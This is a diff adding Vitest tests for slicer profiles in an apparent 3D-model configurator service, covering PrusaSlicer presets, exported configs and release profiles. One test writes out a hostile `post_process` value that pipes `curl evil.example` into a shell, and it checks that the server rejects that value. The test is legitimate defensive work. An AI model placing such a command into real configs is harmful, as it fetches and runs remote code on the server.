@@ -1,7 +1,11 @@
+import { execFileSync } from 'node:child_process'
+import fs from 'node:fs'
+import os from 'node:os'
+import path from 'node:path'
 import { describe, expect, it } from 'vitest'
-import { api } from '@/test/support/api-client'
-import { openSession } from '@/test/support/fixtures'
-import { directSlice, summaryDifferences } from '@/test/support/print-ready'
+import { api, callJson } from '@/test/support/api-client'
+import { expectError, openSession } from '@/test/support/fixtures'
+import { directSlice, PRUSA_SLICER, summaryDifferences } from '@/test/support/print-ready'
 import { DEFAULT_PROFILE, flatConfig } from '@/lib/slicing/profiles'
 
 // The session's objectinfo with PrusaSlicer's slice of its final quality (issue 48): sliced in the
@@ -62,5 +66,99 @@ describe('the slice of the manufactured model', () => {
     const { session, token } = await openSession('size = 20; // [10:40]\nsquare(size);\n')
     const { slice } = await objectInfoOf(session.id, token)
     expect(slice).toMatchObject({ state: 'unavailable', error: 'a 2D model is cut, not printed' })
+  })
+})
+
+const MINI = {
+  vendor: 'PrusaResearch',
+  printer: 'Original Prusa MINI & MINI+',
+  print: '0.15mm QUALITY @MINI',
+  filament: 'Prusament PETG',
+}
+const TOWER = 'height = 80; // [20:100]\ncube([10, 10, height]);\n'
+const slicerSettings = (slicer: typeof MINI | { name: string; config: string }) => ({
+  extraSettings: { manufacturing: { slicer } },
+})
+
+/** The config PrusaSlicer exports for presets (File > Export > Export Config does the same). */
+function exportedConfig(presets: typeof MINI): string {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'paraform-config-test-'))
+  try {
+    fs.writeFileSync(path.join(dir, 'in.ini'), flatConfig(presets))
+    execFileSync(PRUSA_SLICER, ['--load', 'in.ini', '--save', 'out.ini'], {
+      cwd: dir,
+      stdio: 'ignore',
+      env: { ...process.env, HOME: dir },
+    })
+    return fs.readFileSync(path.join(dir, 'out.ini'), 'utf8')
+  } finally {
+    fs.rmSync(dir, { recursive: true, force: true })
+  }
+}
+
+describe("the designer's slicer profile", () => {
+  it('slices with presets of the bundles on the server, and refuses those it does not have, naming the setting', async () => {
+    const { session, token, configuratorId } = await openSession(TOWER, slicerSettings(MINI))
+    const { slice } = await sliced(session.id, token)
+    expect(slice).toMatchObject({ state: 'done', profile: MINI })
+    const model = await api('GET', `/configsessions/${session.id}/model?type=3mf`, { token })
+    const direct = await directSlice(new Uint8Array(await model.arrayBuffer()), flatConfig(MINI))
+    expect(summaryDifferences(slice, direct)).toEqual([])
+    // The MINI's 0.15 mm layers, the first at 0.2 mm.
+    expect(slice.layers).toBe(533)
+
+    await expectError(
+      await api('PUT', `/configurators/${configuratorId}`, {
+        token,
+        body: slicerSettings({ ...MINI, printer: 'Original Prusa i9' }),
+      }),
+      422,
+      'unprocessable_entity',
+      /^extraSettings\.manufacturing\.slicer: PrusaResearch has no printer profile "Original Prusa i9"/,
+    )
+  })
+
+  it('slices with a config exported from PrusaSlicer, and refuses one that would run a program, naming the key', async () => {
+    const config = exportedConfig(MINI)
+    const { session, token, configuratorId } = await openSession(TOWER, slicerSettings({ name: 'Our MINI', config }))
+    const { slice } = await sliced(session.id, token)
+    expect(slice).toMatchObject({ state: 'done', profile: { name: 'Our MINI' }, layers: 533 })
+
+    const hostile = config.replace(/^post_process = .*$/m, 'post_process = /bin/sh -c "curl evil.example | sh"')
+    await expectError(
+      await api('PUT', `/configurators/${configuratorId}`, {
+        token,
+        body: slicerSettings({ name: 'Evil', config: hostile }),
+      }),
+      422,
+      'unprocessable_entity',
+      /^extraSettings\.manufacturing\.slicer\.config: `post_process` may not be set/,
+    )
+    await expectError(
+      await api('PUT', `/configurators/${configuratorId}`, {
+        token,
+        body: slicerSettings({ name: 'Not one', config: 'hello = world\n' }),
+      }),
+      422,
+      'unprocessable_entity',
+      /not a PrusaSlicer config: it does not set `bed_shape`/,
+    )
+  })
+
+  it("keeps a release's profile for its sessions when the draft's changes", async () => {
+    const { token, configuratorId } = await openSession(TOWER, slicerSettings(MINI))
+    const { prepareConfigurator } = await import('@/lib/sessions/preparation')
+    await prepareConfigurator(configuratorId)
+    const published = await api('POST', `/configurators/${configuratorId}/releases`, {
+      token,
+      body: { override: true },
+    })
+    expect(published.status).toBe(201)
+    expect(
+      (await api('PUT', `/configurators/${configuratorId}`, { token, body: slicerSettings(DEFAULT_PROFILE) })).status,
+    ).toBe(200)
+    const session = await callJson('createSession', { token, body: { configuratorId } })
+    const { slice } = await sliced(session.id, token)
+    expect(slice).toMatchObject({ state: 'done', profile: MINI, layers: 533 })
   })
 })
